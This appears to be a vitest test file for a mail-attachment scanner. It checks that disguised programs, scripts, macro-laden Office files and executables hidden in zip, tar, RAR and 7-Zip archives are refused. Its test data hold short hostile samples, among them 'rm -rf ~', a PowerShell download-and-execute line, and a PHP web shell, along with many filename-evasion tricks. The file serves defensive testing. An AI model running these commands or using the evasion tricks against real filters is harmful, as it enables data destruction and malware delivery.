import { gzipSync } from "node:zlib";
import { expect, test } from "vitest";
import { namedGzip, rar4, rar5, sevenZip, tar, unicodePath, zip } from "./archives.js";
import { DOCX, JPEG, office, PDF, PNG, PROGRAMS } from "./files.js";
import { verdictOn } from "./read.js";

const EXE = PROGRAMS["PE"] ?? PDF;

test.each(Object.entries(PROGRAMS))("refuses a program (%s) under any name", async (_, program) => {
  for (const filename of ["invoice.pdf", "photo.jpg", "notes.txt", "notes", "data.zip", "report.docx"])
    expect(await verdictOn(filename, program), filename).toMatch(/^refused: is a program \(/);
});

const SCRIPTS = {
  shell: "#!/bin/sh\nrm -rf ~\n",
  "shell after a byte order mark": "\ufeff#!/usr/bin/env bash\n",
  "Windows command prompt": "@echo off\r\ndel /q *\r\n",
  "HTML application": "<html><head><HTA:APPLICATION id=x></head></html>",
  "script in a page": "<html><script>new ActiveXObject('WScript.Shell')</script>",
  "Visual Basic": 'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n',
  JScript: "var a = new ActiveXObject('Scripting.FileSystemObject');",
  PowerShell: "powershell -enc SQBFAFgA",
  "PowerShell, in memory": "$c = (New-Object Net.WebClient).DownloadString('http://x'); Invoke-Expression $c",
  "Windows Script Host": '<?xml version="1.0"?><job id="x"><script language="VBScript">x</script></job>',
  "Windows shortcut": "[InternetShortcut]\r\nURL=file://server/share/x\r\n",
  PHP: "<?php system($_GET['x']);",
};

test.each(Object.entries(SCRIPTS))("refuses a script (%s) whose name is not that of a text file", async (_, script) => {
  for (const filename of ["invoice.pdf", "photo.png", "report.xlsx", "archive.zip"])
    expect(await verdictOn(filename, Buffer.from(script)), filename).toBe(
      "refused: is a script, regardless of its name. Send a link to it instead.",
    );
});

test("refuses a script in UTF-16", async () => {
  const script = Buffer.concat([Buffer.from("fffe", "hex"), Buffer.from(SCRIPTS["Visual Basic"], "utf16le")]);
  expect(await verdictOn("invoice.pdf", script)).toContain("is a script");
});

test.each(["notes.txt", "page.html", "install.log", "README", "data.csv"])(
  "warns about a script named %s",
  async (filename) => {
    expect(await verdictOn(filename, Buffer.from(SCRIPTS.shell))).toBe("odd: begins like a script");
    expect(await verdictOn(filename, Buffer.from(SCRIPTS["HTML application"]))).toBe("odd: begins like a script");
  },
);

const long = `${"folder/".repeat(20)}setup.exe`;
const ARCHIVES: Readonly<Record<string, Buffer>> = {
  zip: zip(["readme.txt", "setup.exe"]),
  "zip, the only file": zip(["a.exe"]),
  "zip, in a folder": zip(["a/b/c/setup.exe"]),
  "zip, in a Windows folder": zip(["a\\b\\setup.exe"]),
  "zip, in capitals": zip(["SETUP.EXE"]),
  "zip, a dot at the end": zip(["setup.exe."]),
  "zip, a space at the end": zip(["setup.exe "]),
  "zip, two extensions": zip(["invoice.pdf.exe"]),
  "zip, look-alikes": zip(["invoice.ехе"]),
  "zip, full width": zip(["invoice．ｅｘｅ"]),
  "zip, an invisible character": zip(["invoice.e\u200bxe"]),
  "zip, a zero byte": zip(["invoice.exe\0.pdf"]),
  "zip, a control character": zip(["in\u0001voice.exe"]),
  "zip, a control character in the extension": zip(["invoice.e\u0001xe"]),
  "zip, a control character at the end": zip(["invoice.exe\t"]),
  "zip, signatures in the name": zip(["PK\u0003\u0004PK\u0001\u0002.exe"]),
  "zip, a direction override": zip(["invoice\u202efdp.exe"]),
  "zip, a stream name": zip(["invoice.exe:a.txt"]),
  "zip, a script": zip(["run.js"]),
  "zip, a shortcut": zip(["Invoice.pdf.lnk"]),
  "zip, a macOS program": zip(["Reader.app/Contents/MacOS/Reader"]),
  "zip, a jar's manifest": zip(["META-INF/MANIFEST.MF", "Main.class"]),
  "zip, an Android package": zip(["AndroidManifest.xml", "resources.arsc"]),
  "zip, a Windows Store package": zip(["AppxManifest.xml"]),
  "zip, stored": zip(["setup.exe"], { isStored: true }),
  "zip, encrypted": zip(["setup.exe"], { isEncrypted: true }),
  "zip, sizes after the files": zip(["setup.exe"], { hasDescriptors: true }),
  zip64: zip(["setup.exe"], { isZip64: true }),
  "zip after text": zip(["setup.exe"], { prefix: Buffer.from("hello\n".repeat(1000)) }),
  "zip after an image": zip(["setup.exe"], { prefix: PNG }),
  "zip after a PDF": zip(["setup.exe"], { prefix: PDF }),
  "zip with a comment": zip(["setup.exe"], { comment: "x".repeat(60_000) }),
  "zip with another zip's end in its comment": zip(["setup.exe"], { comment: `PK\x05\x06${"\0".repeat(18)}` }),
  "zip, named so only in the central directory": zip([{ name: "setup.exe", localName: "setup.txt" }]),
  "zip, named so only in the local header": zip([{ name: "setup.txt", localName: "setup.exe" }]),
  "zip, named so in Unicode": zip([{ name: "setup.txt", extra: unicodePath("setup.exe") }]),
  "zip without a central directory": zip(["setup.exe"]).subarray(0, 60),
  "zip without its beginning": zip(["readme.txt", "setup.exe"]).subarray(20),
  "zip in which the program is the last of many files": zip([
    ...Array.from({ length: 1000 }, (_, n) => `${n}.txt`),
    "setup.exe",
  ]),
  "zip with files after its end": Buffer.concat([zip(["a.txt"]), zip(["setup.exe"])]),
  "a document with a program": Buffer.concat([DOCX, zip(["word/embeddings/setup.exe"])]),
  tar: tar(["readme.txt", "setup.exe"]),
  "tar with GNU long names": tar(["readme.txt", long]),
  "tar with pax records": tar(["readme.txt", long], { longNames: "pax" }),
  "tar, the first file": tar([long]),
  "tar.gz": gzipSync(tar(["readme.txt", "setup.exe"])),
  "tar.gz, far from the beginning": gzipSync(
    Buffer.concat([tar(["a.bin"]).subarray(0, 1024), Buffer.alloc(512 * 4_000, 1), tar(["setup.exe"])]),
  ),
  "gzip, the stored name": namedGzip("setup.exe", gzipSync(Buffer.from("hello"))),
  "gzip, a stored name with a folder": namedGzip("C:\\a\\run.js", gzipSync(Buffer.from("hello"))),
  "RAR 4": rar4(["readme.txt", "docs\\setup.exe"]),
  "RAR 5": rar5(["readme.txt", "docs/setup.exe"]),
  "RAR after an image": Buffer.concat([JPEG, rar5(["setup.exe"])]),
  "7-Zip": sevenZip(["readme.txt", "setup.exe"]),
  "7-Zip, many names": sevenZip([...Array.from({ length: 40 }, (_, n) => `${n}.txt`), "docs/Setup.EXE"]),
};

test.each(Object.entries(ARCHIVES))("refuses a program in an archive: %s", async (_, archive) => {
  for (const filename of ["files.zip", "files.docx", "files.pdf", "files"])
    expect(await verdictOn(filename, archive), filename).toMatch(
      /^refused: (?:contains a file with the extension "\.|is a program in a zip)/,
    );
});

const MACRO_TYPE = `<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`;
const MACROS: Readonly<Record<string, Buffer>> = {
  Word: zip(["[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"]),
  Excel: zip(["[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"]),
  "Excel, on Windows": zip(["[Content_Types].xml", "xl\\workbook.xml", "xl\\vbaProject.bin"]),
  "Excel 4": zip(["[Content_Types].xml", "xl/workbook.xml", "xl/macrosheets/sheet1.xml"]),
  PowerPoint: zip(["[Content_Types].xml", "ppt/presentation.xml", "ppt/vbaProject.bin"]),
  Visio: zip(["[Content_Types].xml", "visio/document.xml", "visio/vbaProject.bin"]),
  "Word, by its type": office("word/document.xml", "vnd.ms-word.document.macroEnabled"),
  "Word, by its type in UTF-16": zip([
    { name: "[Content_Types].xml", content: Buffer.from(`\ufeff<Types>${MACRO_TYPE}</Types>`, "utf16le") },
    "word/document.xml",
  ]),
  "Word, by its type with a character reference": zip([
    {
      name: "[Content_Types].xml",
      content: `<Types>${MACRO_TYPE.replace("m", "&#109;").replace("E", "&#x45;")}</Types>`,
    },
    "word/document.xml",
  ]),
  "Word, by its type in another case": zip([{ name: "[content_types].XML", content: MACRO_TYPE }, "word/document.xml"]),
};

test.each(Object.entries(MACROS))("refuses macros (%s) under any file name", async (_, document) => {
  for (const filename of ["report.docx", "report.doc", "figures.XLSX", "figures.xlsb", "slides.pptx", "files.zip"])
    expect(await verdictOn(filename, document), filename).toBe(
      "refused: is an Office document with macros, which many mail servers block. Save it without macros, or send a link to it.",
    );
});

test("finds a program next to macros", async () => {
  const both = zip(["[Content_Types].xml", "word/vbaProject.bin", "word/embeddings/setup.exe"]);
  expect(await verdictOn("report.docx", both)).toMatch(/^refused: contains a file with the extension "\.exe"/);
});

test("accepts scripts in a book, but nothing else that archives must not contain", async () => {
  const book = (...names: string[]) =>
    zip([{ name: "mimetype", content: "application/epub+zip" }, ...names], { isStored: true });
  for (const name of ["OEBPS/setup.exe", "OEBPS/run.vbs", "OEBPS/quiz.jse"])
    expect(await verdictOn("book.epub", book("META-INF/container.xml", name)), name).toMatch(
      /^refused: contains a file/,
    );
  expect(await verdictOn("book.epub", book("META-INF/MANIFEST.MF", "Main.class"))).toMatch(/^refused: is a program/);
  // A file that does not open as a book is unpacked.
  expect(await verdictOn("files.zip", book("OEBPS/quiz.js"))).toMatch(/^refused: contains a file/);
  expect(await verdictOn("book.epub", zip(["quiz.js"]))).toMatch(/^refused: contains a file/);
});

test("refuses a compressed program", async () => {
  expect(await verdictOn("invoice.gz", gzipSync(EXE))).toBe(
    "refused: contains a program (exe). Send a link to it instead.",
  );
  expect(await verdictOn("invoice.pdf", namedGzip("invoice.pdf", gzipSync(EXE)))).toContain("refused");
});

test.each([
  ["7-Zip with a packed list", sevenZip(["setup.exe"], { isPacked: true }), "the list of its files is compressed"],
  ["RAR 4 with encrypted names", rar4(["setup.exe"], { isEncrypted: true }), "the names in it are encrypted"],
  ["RAR 5 with encrypted names", rar5(["setup.exe"], { isEncrypted: true }), "the names in it are encrypted"],
  ["bzip2", Buffer.from("425a68393141592653590000000000000000", "hex"), "its contents are compressed"],
  ["xz", Buffer.from("fd377a585a000004e6d6b446000000001cdf4421", "hex"), "its contents are compressed"],
  ["a cut RAR", rar5(["a.txt", "b.txt"]).subarray(0, 40), "it is damaged"],
  ["a cut gzip", gzipSync(Buffer.alloc(5000, "text ")).subarray(0, 30), "it is damaged"],
])("warns about an archive that can't be checked: %s", async (_, archive, reason) => {
  expect(await verdictOn("files.bin", archive)).toBe(`odd: is an archive that can't be checked: ${reason}`);
});

test("unpacks a zip bomb no further than necessary", async () => {
  const block = tar(["a.bin"]).subarray(0, 1024);
  const zeros = gzipSync(Buffer.alloc(2 ** 20));
  const bomb = Buffer.concat([gzipSync(block), ...Array.from({ length: 129 }, () => zeros)]);
  expect(bomb.length).toBeLessThan(1_000_000);
  expect(await verdictOn("files.tar.gz", bomb)).toContain("too large to unpack completely");
  expect(await verdictOn("file.gz", gzipSync(Buffer.alloc(20e6), { level: 1 }))).toBe("passes");
});
